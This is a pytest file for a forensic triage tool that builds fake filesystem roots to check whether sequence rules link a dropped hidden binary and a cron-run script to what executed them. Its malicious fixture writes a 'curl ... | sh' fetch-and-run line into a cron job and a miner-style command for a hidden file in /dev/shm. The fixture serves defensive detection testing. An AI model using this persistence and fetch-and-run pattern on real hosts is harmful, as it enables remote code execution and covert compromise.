"""Sequence rules through a whole run (fake root → collect → analyze): a program dropped in a writable
place and the shell command or cron job that ran it are joined across streams (specs/rules/sequences.yaml);
an installer script saved in /tmp and run once by an admin is not such a drop."""

from __future__ import annotations

import json
import shutil
import tarfile
from pathlib import Path

from conftest import run_triagent, summary_of


def _root(base: Path, malicious: bool) -> Path:
    root = base / ("bad" if malicious else "good")
    for folder in ("etc", "root", "tmp", "var/tmp", "dev/shm", "etc/cron.d", "home/ops"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\nops:x:1000:1000::/home/ops:/bin/bash\n")
    (root / "etc/hostname").write_text("seq-host\n")
    true = shutil.which("true")
    assert true
    if malicious:
        shutil.copy(true, root / "dev/shm/.k")  # an ELF with a hidden name
        (root / "root/.bash_history").write_text("#1764900000\ncd /dev/shm\n#1764900010\n./.k -o pool:3333\n")
        (root / "var/tmp/upd.sh").write_text("#!/bin/sh\ncurl -s http://198.51.100.7/p | sh\n")
        (root / "etc/cron.d/upd").write_text("*/5 * * * * root /var/tmp/upd.sh >/dev/null 2>&1\n")
    else:
        (root / "tmp/get-docker.sh").write_text("#!/bin/sh\necho installing docker\n")
        (root / "home/ops/.bash_history").write_text("curl -fsSL https://get.docker.com -o /tmp/get-docker.sh\n"
                                                      "sudo sh /tmp/get-docker.sh\n/usr/bin/docker ps\n")
        (root / "etc/cron.d/backup").write_text("0 3 * * * root /usr/local/bin/backup.sh\n")
    return root


def _findings(tmp_path: Path, root: Path) -> dict[str, list[dict]]:
    out = tmp_path / f"out-{root.name}"
    bundle = summary_of(run_triagent(["collect", "--root", str(root), "--output", str(out), "--profile", "triage"]))[
        "bundle"]
    proc = run_triagent(["analyze", bundle, "--output", str(out / "analysis")])
    summary = json.loads(proc.stdout.decode().strip().splitlines()[-1])
    with tarfile.open(summary["analysis"]) as tar:
        lines = tar.extractfile("triagent/artifacts/findings.jsonl").read().splitlines()
    found: dict[str, list[dict]] = {}
    for line in lines:
        finding = json.loads(line)
        found.setdefault(str(finding.get("rule")), []).append(finding)
    return found


def test_dropped_program_joined_with_what_ran_it(tmp_path):
    found = _findings(tmp_path, _root(tmp_path, malicious=True))
    shell = found.get("TRI-SEQ-001", [])
    assert [f["key"] for f in shell] == ["/dev/shm/.k"], found.keys()
    assert "./.k -o pool:3333" in shell[0]["summary"] and len(shell[0]["evidence"]) == 2
    assert [f["key"] for f in found.get("TRI-SEQ-002", [])] == ["/var/tmp/upd.sh"]


def test_installer_script_run_once_is_not_a_drop(tmp_path):
    found = _findings(tmp_path, _root(tmp_path, malicious=False))
    assert "TRI-SEQ-001" not in found and "TRI-SEQ-002" not in found
